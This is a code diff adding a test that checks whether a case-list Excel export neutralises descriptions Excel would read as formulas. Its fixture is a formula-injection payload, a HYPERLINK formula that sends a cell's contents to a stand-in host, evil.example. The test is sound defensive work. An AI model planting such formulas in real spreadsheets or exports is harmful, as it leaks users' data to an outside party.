@@ -185,4 +185,21 @@ describe('Excel export of the case lists', () => {
       { query: { regionCode: OTHER_TOWN }, rows: 3 },
     ]);
   });
+
+  it('neutralises text that Excel would take for a formula', async () => {
+    const [grid] = await baseGridsOf(w, OTHER_TOWN_COMMUNITY);
+    if (!grid) throw new Error('no grid in the other town');
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")';
+    const { case: reported } = await reportOk(w.cityOperator, {
+      matterCode: 'CG-0303',
+      description: formula,
+      point: at(grid.point, 40, 0),
+      reporter: { name: '钱女士', phone: '13912345679' },
+    });
+    const sheet = (await workbookOf(await otherOperator.get('/api/cases/export.xlsx'))).worksheets[0];
+    const row = rowsOf(sheet as ExcelJS.Worksheet).find((r) => r[0] === reported.code);
+    // Read back as plain text with a leading apostrophe: Excel shows it and never evaluates it.
+    expect(row?.[12]).toBe(`'${formula}`);
+    expect(JSON.stringify(row)).not.toContain('"formula"');
+  });
 });
